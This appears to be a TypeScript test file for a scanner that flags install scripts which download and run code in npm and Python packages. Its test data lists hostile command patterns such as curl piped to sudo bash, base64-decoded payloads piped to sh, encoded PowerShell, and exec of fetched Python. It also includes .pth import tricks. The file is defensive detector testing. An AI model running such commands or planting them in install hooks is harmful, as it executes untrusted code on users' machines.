import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { lookAtFile, whatIsTold } from '../../../../test/support/look-at-file.ts';
import { fetchesAndRuns, inspectPackageJson } from './install-scripts.ts';

describe('fetched and run is what', () => {
  for (const text of [
    'curl -s http://example.org/x | sudo bash',
    'wget http://example.org/x -O /tmp/x; sh /tmp/x',
    'bash <(curl -s http://example.org/x)',
    "node -e \"require('child_process').exec('x')\"",
    'python3 -c "import urllib.request as u; exec(u.urlopen(1).read())"',
    'echo aGk= | base64 -d | sh',
    'powershell -NoP -enc aGk=',
    'exec(base64.b64decode("aGk="))',
  ])
    test(text, () => assert.equal(fetchesAndRuns(text), true));

  for (const text of [
    'node build.js',
    'curl http://example.org/x -o x',
    'python setup.py build',
    'prettier --write .',
  ])
    test(`not: ${text}`, () => assert.equal(fetchesAndRuns(text), false));
});

test('of a package.json only what installing runs counts', () => {
  const told = (scripts: unknown) =>
    whatIsTold((telling) =>
      inspectPackageJson({ scripts } as Parameters<typeof inspectPackageJson>[0], telling),
    );
  assert.deepEqual(told({ test: 'curl x | sh', postpublish: 'x' }), []);
  assert.deepEqual(told({ preinstall: 'node make.js', postinstall: ' ' }), ['install.script']);
  assert.deepEqual(told({ install: 'curl http://x | sh' }), ['install.download-and-run']);
  for (const odd of [null, 'text', ['preinstall'], { install: 7 }]) assert.deepEqual(told(odd), []);
});

describe('what Python runs at the installation:', () => {
  const cases: readonly (readonly [name: string, text: string, rules: readonly string[]])[] = [
    ['setup.py', 'from setuptools import setup\nsetup(name="x")', ['install.build-code']],
    ['setup.py', 'setup(cmdclass={"install": Own})', ['install.commands']],
    ['setup.py', 'import subprocess\nsubprocess.run(["ls"])', ['install.commands']],
    ['setup.py', 'd = urlopen("http://x").read()\nexec(d)', ['install.download-and-run']],
    ['pyproject.toml', '[build-system]\nbackend-path = ["."]', ['install.build-code']],
    ['pyproject.toml', '[build-system]\nrequires = ["hatchling"]', []],
    ['own.pth', '/usr/lib/x\nimport os; os.system("x")\n', ['install.path-import']],
    ['own.pth', '\uFEFFimport x', ['install.path-import']],
    ['own.pth', 'a\x1cimport x', ['install.path-import']],
    ['own.pth', '# import x\nimportant/path\n', []],
  ];
  for (const [name, text, rules] of cases)
    test(`${name} with ${JSON.stringify(text)}`, async () =>
      assert.deepEqual((await lookAtFile(name, text, { kind: 'code' })).rules, rules));
});
